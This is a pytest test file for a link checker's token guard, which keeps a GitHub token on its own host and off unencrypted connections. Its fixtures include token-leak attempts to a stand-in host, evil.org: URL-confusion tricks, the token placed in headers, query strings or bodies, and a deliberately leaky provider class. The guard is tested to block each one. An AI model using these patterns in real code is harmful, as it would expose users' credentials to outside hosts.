"""Tokens go to those who may have them, over connections that nobody else reads, and to nobody else."""

from __future__ import annotations

import asyncio
import json
from random import Random
from typing import TYPE_CHECKING

import pytest

from awesome_lint.links.base import Failure, Request, Response
from awesome_lint.links.engine import Engine
from awesome_lint.links.options import LinkOptions
from awesome_lint.links.plan import make_plan
from awesome_lint.links.providers.github import GitHub
from awesome_lint.links.tokens import guarded
from awesome_lint.statuses import LinkStatus, Verdict

if TYPE_CHECKING:
    from collections.abc import Callable, Coroutine, Mapping, Sequence

    from awesome_lint.links.base import Access, Answer, Clock
    from awesome_lint.links.providers.github import GitHub as Provider

    Virtually = Callable[[Coroutine[object, object, dict[str, LinkStatus]]], dict[str, LinkStatus]]

SECRET = "ghp_0123456789abcdef"  # noqa: S105 - nobody's
HEADERS = {"Authorization": f"Bearer {SECRET}"}


async def _fine(request: Request) -> Response:
    return Response(request.url, 200, {})


def passes(request: Request, hosts: frozenset[str] = frozenset({"api.github.com"})) -> bool:
    fetch = guarded(_fine, LinkOptions(tokens={"github": SECRET}, token_hosts=hosts))
    try:
        asyncio.run(fetch(request))
    except Failure:
        return False
    return True


@pytest.mark.parametrize(
    ("url", "may"),
    [
        ("https://api.github.com/graphql", True),
        ("https://API.GitHub.com:443/graphql", True),
        ("http://api.github.com/graphql", False),
        ("https://github.com/graphql", False),
        ("https://api.github.com.evil.org/graphql", False),
        ("https://api.github.com@evil.org/graphql", False),
        ("https://evil.org/api.github.com", False),
        ("https://evil.org\\@api.github.com/graphql", False),
        ("http://127.0.0.1:8080/graphql", False),
        ("https://[api.github.com/graphql", False),
        ("", False),
    ],
)
def test_a_token_goes_to_its_own_host_only(url: str, may: bool) -> None:
    assert passes(Request(url, "POST", HEADERS)) is may


@pytest.mark.parametrize(
    ("url", "may"),
    [
        ("http://127.0.0.1:8080/graphql", True),
        ("http://[::1]:8080/graphql", True),
        ("http://localhost/graphql", False),
        ("http://ghe.corp/api/graphql", False),
        ("https://ghe.corp/api/graphql", True),
    ],
)
def test_unencrypted_it_leaves_this_machine_never(url: str, may: bool) -> None:
    hosts = frozenset({"127.0.0.1", "::1", "localhost", "ghe.corp"})
    assert passes(Request(url, "POST", HEADERS), hosts) is may


@pytest.mark.parametrize(
    "request_with_it",
    [
        Request("https://evil.org/", headers={"X-Anything": f"token={SECRET}"}),
        Request("https://evil.org/", headers={SECRET: "x"}),
        Request(f"https://evil.org/?access_token={SECRET}"),
        Request("https://evil.org/", "POST", body=json.dumps({"token": SECRET}).encode()),
    ],
)
def test_wherever_in_a_request_it_stands(request_with_it: Request) -> None:
    assert not passes(request_with_it)


def test_requests_without_it_go_anywhere() -> None:
    assert passes(Request("https://evil.org/", "POST", {"Authorization": "none"}, b"x"))
    empty = guarded(_fine, LinkOptions(tokens={"github": ""}))
    asyncio.run(empty(Request("https://evil.org/")))


class Web:
    """Answers every request, and remembers all of them."""

    def __init__(self) -> None:
        self.asked: list[Request] = []

    async def __call__(self, request: Request) -> Response:
        self.asked.append(request)
        body = json.dumps({"data": {"r0": {"nameWithOwner": "o/new"}}}).encode() if request.method == "POST" else b"x"
        return Response(request.url, 200, {"content-type": "text/plain"}, body)


class Leaky(GitHub):
    """A provider with a mistake: it sends its token to another host as well."""

    async def ask(self, _: Sequence[str], access: Access) -> Mapping[str, Answer]:
        await access.fetch(Request("https://evil.org/log", headers={"X-Token": access.tokens["github"]}))
        return {}


def run(provider: Provider, base: str, web: Web, clock: Clock, virtually: Virtually) -> LinkStatus:
    options = LinkOptions(tokens={"github": SECRET}, provider_urls={"github": base})

    async def check() -> dict[str, LinkStatus]:
        engine = Engine(web, options, clock, Random(0), None, [provider])  # noqa: S311 - jitter
        return {status.url: status async for status in engine.run(make_plan(["https://github.com/o/old"], options))}

    return virtually(check())["https://github.com/o/old"]


def test_a_base_url_from_a_lists_configuration_gets_no_token(clock: Clock, virtually: Virtually) -> None:
    web = Web()
    status = run(GitHub(), "https://mirror.evil.org", web, clock, virtually)
    assert status.provider == "http"
    assert status.verdict is not Verdict.DEAD
    assert not any("evil.org" in request.url for request in web.asked)
    assert not any(SECRET in str(request) for request in web.asked)


def test_the_public_interface_gets_it(clock: Clock, virtually: Virtually) -> None:
    web = Web()
    status = run(GitHub(), "https://api.github.com", web, clock, virtually)
    assert (status.verdict, status.final_url) == (Verdict.MOVED, "https://github.com/o/new")
    assert [request.url for request in web.asked if SECRET in str(request)] == ["https://api.github.com/graphql"]


def test_not_even_a_mistaken_provider_gives_it_away(clock: Clock, virtually: Virtually) -> None:
    web = Web()
    run(Leaky(), "https://api.github.com", web, clock, virtually)
    assert not any("evil.org" in request.url for request in web.asked)
